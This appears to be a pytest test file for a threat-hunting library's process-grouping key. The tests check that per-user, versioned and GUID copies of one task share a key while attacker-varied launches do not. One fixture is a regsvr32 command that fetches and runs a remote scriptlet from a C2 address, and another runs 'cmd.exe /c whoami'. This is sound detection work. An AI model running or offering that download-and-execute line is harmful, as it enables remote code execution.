"""GroupKey: one key for the copies of one task that differ by user, GUID or version, and
different keys for anything an attacker changes (another program, argument or address)."""

from __future__ import annotations

import pandas as pd
import pytest

from hunting_lib.engine.group_key import group_keys, identify_groups, normalise_text, readable_pattern


def _key(file_name: str, command_line: str, folder_path: str) -> str:
    frame = pd.DataFrame({"FileName": [file_name], "ProcessCommandLine": [command_line], "FolderPath": [folder_path]})
    return group_keys(frame)["GroupKey"].iloc[0]


@pytest.mark.parametrize("one, other", [
    # per-user copies of one updater
    (("OneDriveUpdate.exe", r"C:\Users\anna\AppData\Local\Microsoft\OneDrive\OneDriveUpdate.exe /silent",
      r"C:\Users\anna\AppData\Local\Microsoft\OneDrive\OneDriveUpdate.exe"),
     ("OneDriveUpdate.exe", r"C:\Users\Bob.Smith\AppData\Local\Microsoft\OneDrive\OneDriveUpdate.exe /silent",
      r"C:\Users\Bob.Smith\AppData\Local\Microsoft\OneDrive\OneDriveUpdate.exe")),
    # next week's version
    (("GoogleUpdate.exe", r"C:\Program Files\Google\Update\1.3.187.41\GoogleUpdate.exe /ua",
      r"C:\Program Files\Google\Update\1.3.187.41\GoogleUpdate.exe"),
     ("GoogleUpdate.exe", r"C:\Program Files\Google\Update\1.3.189.0\GoogleUpdate.exe /ua",
      r"C:\Program Files\Google\Update\1.3.189.0\GoogleUpdate.exe")),
    # an installer's GUID folder, braced or not, any case
    (("setup.exe", r"C:\ProgramData\Package Cache\{8C4A5E2B-1D2A-4B1C-9F3E-0A1B2C3D4E5F}\setup.exe /repair",
      r"C:\ProgramData\Package Cache\{8C4A5E2B-1D2A-4B1C-9F3E-0A1B2C3D4E5F}\setup.exe"),
     ("setup.exe", r"C:\ProgramData\Package Cache\0a1b2c3d-1111-2222-3333-444455556666\setup.exe /repair",
      r"C:\ProgramData\Package Cache\0a1b2c3d-1111-2222-3333-444455556666\setup.exe")),
])
def test_copies_of_one_task_share_a_key(one, other):
    assert _key(*one) == _key(*other)


@pytest.mark.parametrize("one, other", [
    # another argument
    (("cmd.exe", "cmd.exe /c backup.cmd", r"C:\Windows\System32\cmd.exe"),
     ("cmd.exe", "cmd.exe /c whoami", r"C:\Windows\System32\cmd.exe")),
    # another C2 address: dotted numbers in a URL, a UNC path or an argument are not versions
    (("regsvr32.exe", "regsvr32.exe /s /i:http://91.215.250.78/a.sct scrobj.dll", r"C:\Windows\System32\regsvr32.exe"),
     ("regsvr32.exe", "regsvr32.exe /s /i:http://91.215.250.79/a.sct scrobj.dll", r"C:\Windows\System32\regsvr32.exe")),
    (("x.exe", r"\\10.0.0.5\share\x.exe", r"\\10.0.0.5\share\x.exe"),
     ("x.exe", r"\\10.0.0.6\share\x.exe", r"\\10.0.0.6\share\x.exe")),
    (("ping.exe", "ping.exe 8.8.8.8", r"C:\Windows\System32\PING.EXE"),
     ("ping.exe", "ping.exe 8.8.4.4", r"C:\Windows\System32\PING.EXE")),
    # the Public profile is shared by every user: it is not a user's copy
    (("a.exe", r"C:\Users\Public\a.exe", r"C:\Users\Public\a.exe"),
     ("a.exe", r"C:\Users\bob\a.exe", r"C:\Users\bob\a.exe")),
    # another program in the same folder
    (("a.exe", r"C:\Tools\a.exe", r"C:\Tools\a.exe"), ("b.exe", r"C:\Tools\a.exe", r"C:\Tools\b.exe")),
])
def test_what_an_attacker_changes_changes_the_key(one, other):
    assert _key(*one) != _key(*other)


def test_the_key_is_stable_and_pasteable():
    key = _key("a.exe", 'a.exe "quoted arg" | more', r"C:\Users\x\a.exe")
    assert key == _key("a.exe", 'a.exe "quoted arg" | more', r"C:\Users\y\a.exe")
    assert key.startswith("gk-") and len(key) == 19 and key[3:].isalnum()


def test_the_pattern_keeps_what_it_replaced_readable():
    text = normalise_text(r"C:\Users\anna\AppData\Local\App\app-2.4.1\app.exe --id {8C4A5E2B-1D2A-4B1C-9F3E-0A1B2C3D4E5F}")
    assert text == r"%userprofile%\appdata\local\app\app-<ver>\app.exe --id <guid>"
    frame = group_keys(pd.DataFrame({"FileName": ["A.exe"], "ProcessCommandLine": ["a"], "FolderPath": ["b"]}))
    assert readable_pattern(frame["GroupPattern"].iloc[0]) == "a.exe | a | b"
    assert frame["FileName"].iloc[0] == "A.exe"  # the raw values stay beside the key


def test_identify_groups_lists_each_groups_binary_hashes():
    rare = pd.DataFrame({"TaskId": [0, 1], "FileName": ["a.exe", "b.exe"], "ProcessCommandLine": ["a", "b"],
                         "FolderPath": ["pa", "pb"]})
    starts = pd.DataFrame({"FileName": ["a.exe", "a.exe", "a.exe", "b.exe", "c.exe"],
                           "ProcessCommandLine": ["a", "a", "a", "b", "c"], "FolderPath": ["pa", "pa", "pa", "pb", "pc"],
                           "SHA1": ["BB" * 20, "aa" * 20, "bb" * 20, "", "cc" * 20]})
    out = identify_groups(rare, starts)
    assert out["SHA1s"].tolist() == [["aa" * 20, "bb" * 20], []]
    assert out["GroupKey"].nunique() == 2
